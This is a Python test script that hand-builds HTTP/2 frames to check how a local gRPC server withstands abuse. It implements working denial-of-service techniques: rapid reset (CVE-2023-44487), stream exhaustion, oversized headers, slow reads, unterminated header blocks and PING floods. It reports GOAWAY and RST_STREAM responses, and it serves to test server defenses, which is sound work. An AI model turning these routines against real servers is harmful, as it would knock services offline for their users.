#!/usr/bin/python3
"""h2_flood: HTTP/2 abuse over TLS (ALPN h2) for the tests, frames written by hand.

  h2_flood.py PORT CA MODE [N]
    reset     rapid reset (CVE-2023-44487): N times HEADERS for a new stream, then
              RST_STREAM(CANCEL) at once, without reading
    streams   opens N streams (HEADERS without END_STREAM) and keeps them open
    bighead   one request whose header list is N bytes
    noread    h2_flood.py PORT CA noread N AUTHZ PATH SECONDS: one call with an N-byte
              message, then never reads (the socket's receive buffer fills) for SECONDS
    halfopen  h2_flood.py PORT CA halfopen N PAD SECONDS: N requests without credentials
              and without END_STREAM (each with a PAD-byte header), then waits up to
              SECONDS for the server to close the connection ("after": when it did)
    nohdrend  h2_flood.py PORT CA nohdrend 1 PAD SECONDS: one HEADERS frame without
              END_HEADERS (and no CONTINUATION ever), then waits the same way
    ping      h2_flood.py PORT CA ping MS 0 SECONDS: no request at all, a PING every MS
              milliseconds, waiting up to SECONDS for the server to close the connection
Prints one JSON line: streams sent, whether the server closed the connection, the
GOAWAY error code if one came (11 = ENHANCE_YOUR_CALM), RST_STREAM codes seen.
"""
import json
import socket
import ssl
import struct
import sys
import time


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def lit(idx, value):
    """HPACK literal without indexing, indexed name (4-bit prefix)."""
    v = value.encode()
    out = bytearray()
    if idx < 15:
        out.append(idx)
    else:
        out += bytes([15, idx - 15])
    if len(v) < 127:
        out.append(len(v))
    else:
        out.append(127)
        n = len(v) - 127
        while n >= 128:
            out.append(n & 0x7f | 0x80)
            n >>= 7
        out.append(n)
    return bytes(out) + v


def lit_new(name, value):
    """HPACK literal without indexing, new name."""
    return b"\x00" + lit(0, name)[1:] + lit(0, value)[1:]


def request_block(extra=b"", path="/tensorflow.serving.PredictionService/Predict"):
    return (b"\x83\x87" + lit(4, path) +
            lit(1, "localhost") + lit(31, "application/grpc") + lit_new("te", "trailers") + extra)


def headers(sid, blk, end_stream):
    """HEADERS (+ CONTINUATION) frames for a header block of any size."""
    chunks = [blk[j:j + 16000] for j in range(0, len(blk), 16000)] or [b""]
    out = b""
    for j, c in enumerate(chunks):
        flags = (4 if j == len(chunks) - 1 else 0) | (1 if j == 0 and end_stream else 0)
        out += frame(1 if j == 0 else 9, flags, sid, c)
    return out


def rst_codes(buf):
    """RST_STREAM error codes in the frames of buf: {code: count}."""
    out, i = {}, 0
    while i + 9 <= len(buf):
        ln = int.from_bytes(buf[i:i + 3], "big")
        if buf[i + 3] == 3 and ln >= 4:
            c = int.from_bytes(buf[i + 9:i + 13], "big")
            out[c] = out.get(c, 0) + 1
        i += 9 + ln
    return out


def main():
    port, ca, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5),
                        server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    sent, closed, goaway, rsts = 0, False, None, {}
    try:
        if mode == "reset":
            batch = bytearray()
            for i in range(n):
                sid = 2 * i + 1
                batch += frame(1, 4, sid, request_block()) + frame(3, 0, sid, struct.pack(">I", 8))
                sent += 1
                if len(batch) > 16384:
                    s.sendall(batch)
                    batch = bytearray()
            s.sendall(batch)
        elif mode == "streams":
            for i in range(n):
                s.sendall(frame(1, 4, 2 * i + 1, request_block()))
                sent += 1
        elif mode == "noread":
            authz, path, hold = sys.argv[5], sys.argv[6], float(sys.argv[7])
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
            blk = request_block(lit(23, authz), path)
            msg = b"\x00" + struct.pack(">I", n) + b"x" * n
            s.sendall(frame(1, 4, 1, blk) + frame(0, 1, 1, msg))
            sent = 1
            time.sleep(hold)
            print(json.dumps({"sent": sent, "closed": False, "goaway": None, "rst": {}}))
            return
        elif mode in ("halfopen", "nohdrend", "ping"):
            pad, hold = int(sys.argv[5]), float(sys.argv[6])
            blk = request_block(lit_new("x-pad", "p" * pad) if pad else b"")
            every, next_ping = n / 1000.0, 0.0
            if mode == "ping":
                pass
            elif mode == "nohdrend":
                s.sendall(frame(1, 0, 1, blk))
                sent = 1
            else:
                for i in range(n):
                    s.sendall(headers(2 * i + 1, blk, False))
                    sent += 1
            t0 = time.time()
            s.settimeout(min(0.5, every / 2) if mode == "ping" else 0.5)
            buf = b""
            while time.time() < t0 + hold:
                if mode == "ping" and time.time() >= next_ping:
                    try:
                        s.sendall(frame(6, 0, 0, struct.pack(">Q", sent)))
                    except (ConnectionError, ssl.SSLError, OSError):
                        closed = True
                        break
                    sent += 1
                    next_ping = time.time() + every
                try:
                    d = s.recv(65536)
                except socket.timeout:
                    continue
                except (ConnectionError, ssl.SSLError, OSError):
                    d = b""
                if not d:
                    closed = True
                    break
                buf += d
            print(json.dumps({"sent": sent, "closed": closed, "after": round(time.time() - t0, 2),
                              "rst": rst_codes(buf)}))
            return
        elif mode == "bighead":
            s.sendall(headers(1, request_block(lit_new("x-big", "a" * n)), False))
            sent = 1
    except (ConnectionError, ssl.SSLError, OSError):
        closed = True
    buf = b""
    deadline = time.time() + 5
    s.settimeout(0.5)
    while not closed and time.time() < deadline:
        try:
            d = s.recv(65536)
        except socket.timeout:
            if mode != "reset":
                break
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            closed = True
            break
        if not d:
            closed = True
            break
        buf += d
    i = 0
    while i + 9 <= len(buf):
        ln = int.from_bytes(buf[i:i + 3], "big")
        ft = buf[i + 3]
        pl = buf[i + 9:i + 9 + ln]
        if ft == 7 and len(pl) >= 8:
            goaway = int.from_bytes(pl[4:8], "big")
        if ft == 3 and len(pl) >= 4:
            c = int.from_bytes(pl[:4], "big")
            rsts[c] = rsts.get(c, 0) + 1
        i += 9 + ln
    print(json.dumps({"sent": sent, "closed": closed, "goaway": goaway, "rst": rsts}))


if __name__ == "__main__":
    main()
